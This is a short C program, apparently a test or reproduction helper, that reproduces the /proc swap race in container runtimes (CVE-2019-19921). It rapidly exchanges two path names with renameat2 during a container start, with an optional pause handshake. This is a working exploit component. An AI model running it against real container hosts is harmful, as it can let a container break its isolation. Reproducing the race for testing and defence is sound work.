/* swapdir A B MS [PAUSE ACK]: exchange the names A and B (renameat2
 * RENAME_EXCHANGE) as fast as possible for MS milliseconds or until
 * SIGTERM, then leave them as they were.  While the file PAUSE exists it
 * stops and says so by creating ACK (so a victim can look at its mounts
 * while nothing moves), and removes ACK when it goes on.
 * The attacker of the /proc swap race (CVE-2019-19921): run beside a
 * container start, with A the image's /proc and B a symlink. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

static volatile sig_atomic_t stop;
static void on_term(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv)
{
	if (argc != 4 && argc != 6) {
		fprintf(stderr, "usage: swapdir A B MS [PAUSE ACK]\n");
		return 2;
	}
	signal(SIGTERM, on_term);
	long long end = now_ms() + atoll(argv[3]);
	unsigned long n = 0;
	printf("ready\n");
	fflush(stdout);
	while (!stop && now_ms() < end) {
		if (argc == 6 && access(argv[4], F_OK) == 0) {
			int fd = open(argv[5], O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
			if (fd >= 0)
				close(fd);
			while (!stop && access(argv[4], F_OK) == 0)
				usleep(500);
			unlink(argv[5]);
		}
		for (int i = 0; i < 64; i++, n++)
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
	}
	if (n % 2 && renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
		perror("renameat2");
		return 1;
	}
	printf("%lu swaps\n", n + n % 2);
	return 0;
}
